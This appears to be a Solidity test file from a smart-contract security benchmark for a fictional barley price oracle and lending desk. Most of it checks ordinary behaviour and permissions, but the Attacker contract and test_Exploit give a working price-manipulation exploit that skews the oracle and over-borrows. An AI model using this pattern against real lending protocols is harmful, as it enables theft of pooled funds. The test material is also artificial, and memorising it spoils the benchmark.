// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.19;

// assay-canary-530d225d-64bf-424a-aa54-9e5da0d99d4f

import "./BarleyFixing.sol";
import "./context/BarleyPool.sol";
import "./context/AuctionLog.sol";
import "./context/ReceiptDesk.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Paper is IToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Committee is IQuoteSource {
    uint256 internal price;
    uint64 internal at;

    function post(uint256 price_, uint64 at_) external {
        price = price_;
        at = at_;
    }

    function quote() external view returns (uint256, uint64) {
        return (price, at);
    }
}

/// Has cash, and nothing else.
contract Attacker {
    function run(BarleyPool pool, AuctionLog log, ReceiptDesk desk) external {
        Paper cash = Paper(address(pool.cash()));
        Paper barley = Paper(address(pool.barley()));
        cash.approve(address(pool), type(uint256).max);
        barley.approve(address(desk), type(uint256).max);
        uint256 bought = pool.buy(cash.balanceOf(address(this)), 0);
        log.publish();
        desk.pledge(bought);
        uint256 amount = desk.room(address(this));
        uint256 there = cash.balanceOf(address(desk));
        desk.borrow(amount < there ? amount : there);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_774_900_000;

    Paper public token;
    Paper public barley;
    Committee public committee;
    BarleyPool public pool;
    AuctionLog public log;
    BarleyFixing public fix;
    ReceiptDesk public desk;
    Attacker public sharp;

    function setUp() public {
        vm.warp(START);
        token = new Paper();
        barley = new Paper();
        committee = new Committee();
        committee.post(1e18, 0);
        pool = new BarleyPool(barley, token);
        token.mint(address(pool), 100_000e18);
        barley.mint(address(pool), 100_000e18);
        pool.found();
        log = new AuctionLog(0.98e18);
        fix = new BarleyFixing(0.1e18, 20e18);
        fix.addSource(committee);
        fix.addSource(pool);
        fix.addSource(log);
        desk = new ReceiptDesk(barley, token, IFixing(address(fix)));
        token.mint(address(desk), 600_000e18);

        log.file(1.05e18);
        vm.warp(START + 7 hours);
        sharp = new Attacker();
        token.mint(address(sharp), 200_000e18);
    }

    function test_Regular() public {
        require(fix.fixing() == 1e18, "median of three");
        (uint64 oldest, uint64 newest) = fix.span();
        require(oldest == 0 && newest == 0, "nothing is dated");
        (uint256 low, uint256 high) = fix.range();
        require(low == 0.98e18 && high == 1e18, "range");

        // A merchant borrows and repays.
        barley.mint(address(this), 1_000e18);
        barley.approve(address(desk), 1_000e18);
        desk.pledge(1_000e18);
        require(desk.room(address(this)) == 600e18, "room");
        desk.borrow(600e18);
        try desk.borrow(1) {
            revert("borrowed too much");
        } catch {}
        token.approve(address(desk), 600e18);
        desk.repay(600e18);
        desk.redeem(1_000e18);

        // A moved pool does not move the fixing beyond the others.
        token.mint(address(this), 100_000e18);
        token.approve(address(pool), 100_000e18);
        pool.buy(100_000e18, 1);
        require(fix.fixing() == 1e18, "the others hold it");
        (low, high) = fix.range();
        require(low == 0.98e18 && high == 4e18, "range with a moved pool");
        barley.approve(address(pool), type(uint256).max);
        pool.sell(50_000e18, 1);

        // Published and current: dated; two days later undated; all dated and old: no fixing.
        try log.publish() {} catch {}
        require(fix.fixing() == 1e18, "all agree within a few per cent");
        (oldest, newest) = fix.span();
        require(oldest == newest && newest == block.timestamp, "one is dated");
        vm.warp(START + 40 hours);
        try fix.fixing() returns (uint256) {
            revert("old quote counted");
        } catch {}
        vm.warp(START + 60 hours);
        require(fix.fixing() == 1e18, "undated again");

        // Even number of quotes.
        Committee second = new Committee();
        second.post(1.1e18, 0);
        fix.addSource(second);
        require(fix.fixing() == 1.025e18, "mean of the two in the middle");
        fix.removeSource(log);
        require(fix.sourceCount() == 3 && fix.fixing() == 1e18, "three again");
        second.post(0, 0);
        try fix.fixing() returns (uint256) {
            revert("too few");
        } catch {}

        fix.setBand(0.2e18, 10e18);
        fix.handOver(address(0xC0));
        require(fix.convenor() == address(0xC0), "handed over");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Sources, band and office are the convenor's.
    function test_RefusesStrangers() public {
        refuses(address(sharp), BarleyFixing.NotConvenor.selector);
        fix.addSource(committee);
        refuses(address(sharp), BarleyFixing.NotConvenor.selector);
        fix.removeSource(log);
        refuses(address(sharp), BarleyFixing.NotConvenor.selector);
        fix.setBand(1, 2);
        refuses(address(sharp), BarleyFixing.NotConvenor.selector);
        fix.handOver(address(sharp));
    }

    /// Sources once and nine at most, and prices within a band.
    function test_RefusesSources() public {
        vm.expectRevert(BarleyFixing.KnownSource.selector);
        fix.addSource(log);
        Committee other = new Committee();
        vm.expectRevert(BarleyFixing.UnknownSource.selector);
        fix.removeSource(other);
        for (uint256 i = 0; i < 6; ++i) fix.addSource(new Committee());
        vm.expectRevert(BarleyFixing.TooManySources.selector);
        fix.addSource(other);
        vm.expectRevert(BarleyFixing.EmptyBand.selector);
        fix.setBand(0, 2);
        vm.expectRevert(BarleyFixing.EmptyBand.selector);
        fix.setBand(2, 2);
        fix.setBand(2e18, 3e18);
        vm.expectRevert(abi.encodeWithSelector(BarleyFixing.OutsideBand.selector, 1e18));
        fix.fixing();
        fix.setBand(1, 0.5e18);
        vm.expectRevert(abi.encodeWithSelector(BarleyFixing.OutsideBand.selector, 1e18));
        fix.fixing();
    }

    function exploit() public {
        sharp.run(pool, log, desk);
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(sharp));
        exploit();
        require(token.balanceOf(address(sharp)) >= before + 100_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(fix);
    }

    function attacker() public view returns (address) {
        return address(sharp);
    }
}
